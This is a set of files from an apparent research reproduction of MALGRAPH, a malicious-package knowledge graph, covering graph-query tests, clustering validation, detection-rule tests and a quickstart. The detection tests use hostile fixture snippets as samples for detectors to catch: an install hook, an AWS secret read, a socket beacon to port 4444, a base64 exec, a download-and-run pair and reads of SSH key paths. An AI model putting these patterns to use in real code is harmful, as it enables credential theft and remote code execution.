        "MATCH (a) RETURN a LIMIT 2.5",  # fractional limit
        "MATCH (a) RETURN a extra",  # trailing tokens
        "MATCH (a) WHERE a.name ~ 'x' RETURN a",  # bad operator
    ],
)
def test_parse_errors(bad):
    with pytest.raises(QueryError):
        parse(bad)


# -- evaluation ------------------------------------------------------------------

def test_node_query_with_filter(graph):
    rows = run_query(
        graph, "MATCH (a) WHERE a.ecosystem = 'npm' RETURN a.name ORDER BY a.name"
    )
    assert rows == [("a",), ("b",)]


def test_node_query_returns_id_for_bare_var(graph):
    rows = run_query(graph, "MATCH (a) WHERE a.name = 'c' RETURN a")
    assert rows == [("pypi:c@1",)]


def test_numeric_comparisons(graph):
    rows = run_query(
        graph, "MATCH (a) WHERE a.release_day > 15 RETURN a.name ORDER BY a.name"
    )
    assert rows == [("b",), ("c",)]


def test_contains_operator(graph):
    rows = run_query(graph, "MATCH (a) WHERE a.name CONTAINS 'cloud' RETURN a.name")
    assert rows == [("cloud-kit",)]


def test_or_combination(graph):
    rows = run_query(
        graph,
        "MATCH (a) WHERE a.name = 'a' OR a.release_day = 30 "
        "RETURN a.name ORDER BY a.name",
    )
    assert rows == [("a",), ("c",)]


def test_and_binds_tighter_than_or(graph):
    # (npm AND day>15) OR name='c'  -> b and c
    rows = run_query(
        graph,
        "MATCH (a) WHERE a.ecosystem = 'npm' AND a.release_day > 15 "
        "OR a.name = 'c' RETURN a.name ORDER BY a.name",
    )
    assert rows == [("b",), ("c",)]


def test_edge_query_is_symmetric(graph):
    rows = run_query(graph, "MATCH (x)-[:dependency]-(y) RETURN x.name, y.name")
    assert set(rows) == {("a", "b"), ("b", "a")}


def test_edge_query_over_clique(graph):
    rows = run_query(
        graph,
        "MATCH (x)-[:similar]-(y) WHERE x.name = 'a' RETURN y.name ORDER BY y.name",
    )
    assert rows == [("c",), ("cloud-kit",)]


def test_edge_query_cross_variable_filter(graph):
    rows = run_query(
        graph,
        "MATCH (x)-[:similar]-(y) WHERE x.ecosystem = 'npm' "
        "AND y.ecosystem = 'pypi' RETURN y.name ORDER BY y.name",
    )
    assert rows == [("c",), ("cloud-kit",)]


def test_count_star(graph):
    assert run_query(graph, "MATCH (a) RETURN COUNT(*)") == [(4,)]
    assert run_query(
        graph, "MATCH (x)-[:similar]-(y) RETURN count(*)"
    ) == [(6,)]  # 3-clique = 6 ordered pairs


def test_count_cannot_mix(graph):
    with pytest.raises(QueryError):
        run_query(graph, "MATCH (a) RETURN count(*), a.name")


def test_order_by_desc_and_limit(graph):
    rows = run_query(
        graph, "MATCH (a) RETURN a.name ORDER BY a.release_day DESC LIMIT 2"
    )
    assert rows == [("c",), ("b",)]


def test_not_prefix_negates(graph):
    rows = run_query(
        graph,
        "MATCH (a) WHERE NOT a.ecosystem = 'npm' RETURN a.name ORDER BY a.name",
    )
    assert rows == [("c",), ("cloud-kit",)]


def test_is_null_and_is_not_null(graph):
    graph.add_node("partial", name="partial")  # no ecosystem attribute
    null_rows = run_query(
        graph, "MATCH (a) WHERE a.ecosystem IS NULL RETURN a.name"
    )
    assert null_rows == [("partial",)]
    not_null = run_query(
        graph, "MATCH (a) WHERE a.ecosystem IS NOT NULL RETURN count(*)"
    )
    assert not_null == [(4,)]


def test_not_is_not_null_double_negation(graph):
    graph.add_node("bare", name="bare")
    rows = run_query(
        graph, "MATCH (a) WHERE NOT a.ecosystem IS NOT NULL RETURN a.name"
    )
    assert rows == [("bare",)]


def test_not_on_missing_attribute_is_true(graph):
    rows = run_query(
        graph, "MATCH (a) WHERE NOT a.ghost = 1 RETURN count(*)"
    )
    assert rows == [(4,)]


def test_missing_attribute_is_null(graph):
    rows = run_query(graph, "MATCH (a) WHERE a.name = 'a' RETURN a.nonexistent")
    assert rows == [(None,)]
    # and comparisons against missing attributes are false
    assert run_query(graph, "MATCH (a) WHERE a.ghost = 1 RETURN a") == []


def test_string_escape_in_literal(graph):
    graph.add_node("q", name="it's")
    rows = run_query(graph, r"MATCH (a) WHERE a.name = 'it\'s' RETURN a")
    assert rows == [("q",)]


def test_order_by_equal_keys_with_unorderable_rows(graph):
    """Equal sort keys must not fall through to comparing row tuples
    (None vs str is unorderable)."""
    graph.add_node("same1", ecosystem="npm", release_day=99)  # no name attr
    graph.add_node("same2", ecosystem="npm", release_day=99, name="zz")
    rows = run_query(
        graph,
        "MATCH (a) WHERE a.release_day = 99 RETURN a.name ORDER BY a.release_day",
    )
    assert set(rows) == {(None,), ("zz",)}


def test_order_by_none_keys_sort_last(graph):
    graph.add_node("undated", name="undated")  # no release_day
    rows = run_query(graph, "MATCH (a) RETURN a.name ORDER BY a.release_day")
    assert rows[-1] == ("undated",)


def test_session_table_render(graph):
    session = GraphQuerySession(graph)
    out = session.run_table("MATCH (a) WHERE a.ecosystem = 'npm' RETURN a.name")
    assert "a.name" in out
    assert "a" in out and "b" in out


def test_query_on_world_graph(paper):
    session = GraphQuerySession(paper.malgraph.graph)
    (count,) = session.run("MATCH (n) RETURN count(*)")[0]
    assert count == paper.malgraph.node_count
    rows = session.run(
        "MATCH (a)-[:dependency]-(b) RETURN a.name, b.name LIMIT 5"
    )
    assert len(rows) <= 5
