"""Ground-truth validation of MALGRAPH groups (Section III-C validity).

The paper validates MALGRAPH by manual inspection ("given a cluster or a
report, we manually inspect its content to determine whether it is a
false positive"). The simulated world has perfect ground truth — every
collected package carries the campaign that produced it — so the manual
pass becomes a measurable one: how well do the recovered groups match the
true campaign partition?

Three standard clustering scores are computed over the entries a group
kind covers:

* **purity** — mean fraction of a group's members that belong to its
  dominant true campaign (the paper's false-positive concern);
* **B-cubed precision / recall** — per-entry pair agreement, robust to
  group-size imbalance (recall captures the paper's false-negative
  concern: campaign mates the graph failed to link);
* **adjusted Rand index (ARI)** — chance-corrected pair agreement.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from math import comb
from typing import Dict, List, Optional, Sequence, Tuple

from repro.analysis.render import render_table
from repro.collection.records import DatasetEntry
from repro.core.groups import GroupKind, PackageGroup
from repro.core.malgraph import MalGraph


@dataclass
class ValidationScore:
    """Agreement between one group kind and the true campaign partition."""

    kind: GroupKind
    groups: int
    covered_entries: int
    labelled_entries: int
    mean_purity: float
    bcubed_precision: float
    bcubed_recall: float
    adjusted_rand: float

    @property
    def bcubed_f1(self) -> float:
        p, r = self.bcubed_precision, self.bcubed_recall
        return 2 * p * r / (p + r) if (p + r) else 0.0


@dataclass
class ValidationReport:
    """Scores for every requested group kind."""

    scores: List[ValidationScore]

    def score(self, kind: GroupKind) -> Optional[ValidationScore]:
        for score in self.scores:
            if score.kind is kind:
                return score
        return None

    def render(self) -> str:
        rows = [
            [
                s.kind.value,
                s.groups,
                s.covered_entries,
                f"{s.mean_purity:.3f}",
                f"{s.bcubed_precision:.3f}",
                f"{s.bcubed_recall:.3f}",
                f"{s.bcubed_f1:.3f}",
                f"{s.adjusted_rand:.3f}",
            ]
            for s in self.scores
        ]
        return render_table(
            ["kind", "groups", "entries", "purity", "B3-P", "B3-R", "B3-F1", "ARI"],
            rows,
            title="MALGRAPH validity: recovered groups vs ground-truth campaigns",
        )


def _labelled_members(group: PackageGroup) -> List[DatasetEntry]:
    return [m for m in group.members if m.campaign_id]


def pairwise_counts(
    predicted: Sequence[int], truth: Sequence[str]
) -> Tuple[int, int, int, int]:
    """(a, b, c, d) pair counts: a = same/same, b = same-pred/diff-true,
    c = diff-pred/same-true, d = diff/diff. Computed from contingency
    sums, never by enumerating pairs."""
    contingency: Dict[Tuple[int, str], int] = Counter(zip(predicted, truth))
    pred_sizes = Counter(predicted)
    true_sizes = Counter(truth)
    n = len(predicted)
    same_both = sum(comb(c, 2) for c in contingency.values())
    same_pred = sum(comb(c, 2) for c in pred_sizes.values())
    same_true = sum(comb(c, 2) for c in true_sizes.values())
    total = comb(n, 2)
    a = same_both
    b = same_pred - same_both
    c = same_true - same_both
    d = total - a - b - c
    return a, b, c, d


def adjusted_rand_index(predicted: Sequence[int], truth: Sequence[str]) -> float:
    """Chance-corrected Rand index of two labelings of the same items."""
    n = len(predicted)
    if n < 2:
        return 1.0
    a, b, c, _d = pairwise_counts(predicted, truth)
    same_pred = a + b
    same_true = a + c
    total = comb(n, 2)
    expected = same_pred * same_true / total
    maximum = (same_pred + same_true) / 2.0
    if maximum == expected:
        return 1.0
    return (a - expected) / (maximum - expected)


def bcubed(predicted: Sequence[int], truth: Sequence[str]) -> Tuple[float, float]:
    """B-cubed precision and recall of a predicted clustering."""
    n = len(predicted)
    if n == 0:
        return 0.0, 0.0
    contingency: Dict[Tuple[int, str], int] = Counter(zip(predicted, truth))
    pred_sizes = Counter(predicted)
    true_sizes = Counter(truth)
    precision = 0.0
    recall = 0.0
    for (pred_label, true_label), count in contingency.items():
        # each of `count` items shares `count` same-pred-same-true mates
        precision += count * (count / pred_sizes[pred_label])
        recall += count * (count / true_sizes[true_label])
    return precision / n, recall / n


def validate_groups(
    malgraph: MalGraph,
    kinds: Sequence[GroupKind] = (GroupKind.SG, GroupKind.DEG, GroupKind.CG),
) -> ValidationReport:
    """Score every group kind against the attached ground truth.

    Entries without a campaign label (ground truth was not attached) are
    skipped; ungrouped entries count against B-cubed recall via a
    singleton predicted cluster each, mirroring how a missed link splits
    a campaign.
    """
    scores: List[ValidationScore] = []
    labelled_all = [e for e in malgraph.dataset.entries if e.campaign_id]
    for kind in kinds:
        groups = malgraph.groups(kind)
        predicted: List[int] = []
        truth: List[str] = []
        covered = 0
        grouped_keys = set()
        for group_id, group in enumerate(groups):
            for member in _labelled_members(group):
                predicted.append(group_id)
                truth.append(member.campaign_id)
                grouped_keys.add(member.package)
                covered += 1
        # singletons: labelled entries this kind failed to group
        next_id = len(groups)
        for entry in labelled_all:
            if entry.package not in grouped_keys:
                predicted.append(next_id)
                truth.append(entry.campaign_id)
                next_id += 1
        purities = [g.purity for g in groups if _labelled_members(g)]
        precision, recall = bcubed(predicted, truth)
        scores.append(
            ValidationScore(
                kind=kind,
                groups=len(groups),
                covered_entries=covered,
                labelled_entries=len(labelled_all),
                mean_purity=sum(purities) / len(purities) if purities else 0.0,
                bcubed_precision=precision,
                bcubed_recall=recall,
                adjusted_rand=adjusted_rand_index(predicted, truth),
            )
        )
    return ValidationReport(scores=scores)
