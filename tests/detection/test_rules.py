"""Heuristic detection rules, one behaviour family at a time."""

from __future__ import annotations

import pytest

from repro.detection.rules import (
    DEFAULT_RULES,
    ClipboardRule,
    DownloadExecuteRule,
    EnvExfiltrationRule,
    ExecObfuscationRule,
    InstallHookRule,
    MetadataAnomalyRule,
    NetworkCallRule,
    SensitivePathRule,
    SubprocessShellRule,
)
from repro.ecosystem.package import make_artifact


def _pkg(code: str, path: str = "pkg/mod.py", **meta):
    return make_artifact("pypi", "testpkg", "1.0", {path: code}, **meta)


def test_install_hook_rule_flags_custom_install():
    setup = (
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "setup(name='x', cmdclass={'install': PostInstall})\n"
    )
    findings = InstallHookRule().scan(_pkg(setup, path="setup.py"))
    assert [f.rule for f in findings] == ["install-hook"]
    assert "PostInstall" in findings[0].detail


def test_install_hook_rule_ignores_non_setup_files():
    code = "class PostInstall(install):\n    pass\n"
    assert InstallHookRule().scan(_pkg(code, path="pkg/notsetup.py")) == []


def test_install_hook_rule_plain_setup_clean():
    setup = "from setuptools import setup\nsetup(name='x')\n"
    assert InstallHookRule().scan(_pkg(setup, path="setup.py")) == []


def test_env_exfiltration_rule():
    code = "import os\nkey = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
    findings = EnvExfiltrationRule().scan(_pkg(code))
    assert findings
    assert "AWS_SECRET_ACCESS_KEY" in findings[0].detail


def test_env_rule_ignores_benign_env():
    code = "import os\nhome = os.environ.get('HOME')\n"
    assert EnvExfiltrationRule().scan(_pkg(code)) == []


def test_network_call_rule():
    code = (
        "from urllib.request import urlopen\n"
        "def beacon():\n"
        "    return urlopen('http://cdn.example.invalid')\n"
    )
    findings = NetworkCallRule().scan(_pkg(code))
    assert [f.rule for f in findings] == ["network-call"]


def test_network_rule_socket_connect():
    code = (
        "import socket\n"
        "s = socket.socket()\n"
        "s.connect(('192.0.2.1', 4444))\n"
    )
    assert NetworkCallRule().scan(_pkg(code))


def test_exec_obfuscation_rule_weights():
    plain = "exec('print(1)')\n"
    decoded = "import base64\nexec(base64.b64decode('cHJpbnQoMSk=').decode())\n"
    plain_findings = ExecObfuscationRule().scan(_pkg(plain))
    decoded_findings = ExecObfuscationRule().scan(_pkg(decoded))
    assert plain_findings[0].weight < decoded_findings[0].weight
    assert "decoded payload" in decoded_findings[0].detail


def test_download_execute_rule_requires_both():
    fetch_only = "from urllib.request import urlretrieve\nurlretrieve('u', 'f')\n"
    spawn_only = "import subprocess\nsubprocess.run(['ls'])\n"
    both = (
        "from urllib.request import urlretrieve\n"
        "import subprocess\n"
        "urlretrieve('u', '/tmp/x')\n"
        "subprocess.run(['/tmp/x'])\n"
    )
    rule = DownloadExecuteRule()
    assert rule.scan(_pkg(fetch_only)) == []
    assert rule.scan(_pkg(spawn_only)) == []
    assert [f.rule for f in rule.scan(_pkg(both))] == ["download-execute"]


def test_sensitive_path_rule():
    code = "paths = ['~/.ssh/id_rsa', 'Login Data']\n"
    findings = SensitivePathRule().scan(_pkg(code))
    assert len(findings) == 2  # .ssh and Login Data


def test_subprocess_shell_rule():
    shelly = "import subprocess\nsubprocess.run(cmd, shell=True)\n"
    clean = "import subprocess\nsubprocess.run(['ls'])\n"
    assert SubprocessShellRule().scan(_pkg(shelly))
    assert SubprocessShellRule().scan(_pkg(clean)) == []


def test_clipboard_rule():
    code = "import subprocess\ndata = subprocess.run(['xclip', '-o'])\n"
    assert ClipboardRule().scan(_pkg(code))
    assert ClipboardRule().scan(_pkg("x = 1\n")) == []


def test_metadata_anomaly_rule():
    bare = _pkg("x = 1\n")  # no homepage, empty description
    findings = MetadataAnomalyRule().scan(bare)
    assert len(findings) == 2
    documented = _pkg("x = 1\n", description="A well documented library")
    documented.metadata.homepage = "https://example.org"
    assert len(MetadataAnomalyRule().scan(documented)) == 0


def test_unparseable_code_is_a_finding():
    findings = EnvExfiltrationRule().scan(_pkg("def broken(:\n"))
    assert [f.rule for f in findings] == ["unparseable-code"]


def test_default_rules_registry():
    names = [rule.name for rule in DEFAULT_RULES]
    assert len(names) == len(set(names)) == 10
