#!/usr/bin/env python
"""Quickstart: simulate an OSS supply-chain world, collect the malware
dataset, build MALGRAPH, and print the headline statistics.

This walks the three pipeline stages behind every experiment in the
paper, resolved through the :mod:`repro.pipeline` runtime so each stage
is fingerprinted, cached and reported:

1. ``world``       — multi-year registry/actor/intel simulation
2. ``collection``  — the Section II collection pipeline
3. ``malgraph``    — the Section III knowledge graph

Run::

    python examples/quickstart.py

Run it twice: the second run resolves every stage from the artifact
cache (see the pipeline report at the end).
"""

from __future__ import annotations

from repro.core.groups import GroupKind
from repro.pipeline import PipelineRuntime
from repro.world import WorldConfig


def main() -> None:
    # A reduced-scale world keeps the example fast (~seconds). Use
    # scale=1.0 (the default) to regenerate the full paper tables.
    config = WorldConfig(seed=7, scale=0.4)
    runtime = PipelineRuntime(config)
    print(f"Resolving world (seed={config.seed}, scale={config.scale}) ...")
    world = runtime.world()
    n_releases = sum(len(c.releases) for c in world.corpus.campaigns)
    print(f"  {len(world.corpus.campaigns)} attack campaigns, "
          f"{n_releases} malicious release attempts, "
          f"{len(world.corpus.benign)} benign packages")

    print("Resolving the Section II collection pipeline ...")
    result = runtime.collection()
    dataset = result.dataset
    available = len(dataset.available_entries())
    print(f"  collected {len(dataset.entries)} records "
          f"({available} with artifacts, "
          f"{len(dataset.entries) - available} names-only)")
    print(f"  recovered {result.stats.recovery.recovered} artifacts "
          f"from mirror registries")
    print(f"  {len(dataset.reports)} security reports crawled")

    print("Resolving MALGRAPH ...")
    graph = runtime.malgraph()
    for kind in GroupKind:
        groups = graph.groups(kind)
        sizes = [len(g.members) for g in groups]
        avg = sum(sizes) / len(sizes) if sizes else 0.0
        print(f"  {kind.value:>4}: {len(groups):4d} groups "
              f"(avg size {avg:.1f})")

    # Inspect one similarity group: a family of near-identical malware.
    sg = max(graph.groups(GroupKind.SG), key=lambda g: len(g.members))
    print(f"\nLargest similarity group ({len(sg.members)} members):")
    for entry in sg.members[:8]:
        pkg = entry.package
        print(f"  {pkg.ecosystem}:{pkg.name}@{pkg.version} "
              f"(released day {entry.release_day}, "
              f"{entry.downloads} downloads)")
    if len(sg.members) > 8:
        print(f"  ... and {len(sg.members) - 8} more")

    # Every resolution above was recorded — on a second run of this
    # script the stages load from the disk cache instead of rebuilding.
    print(f"\n{runtime.report.render()}")


if __name__ == "__main__":
    main()
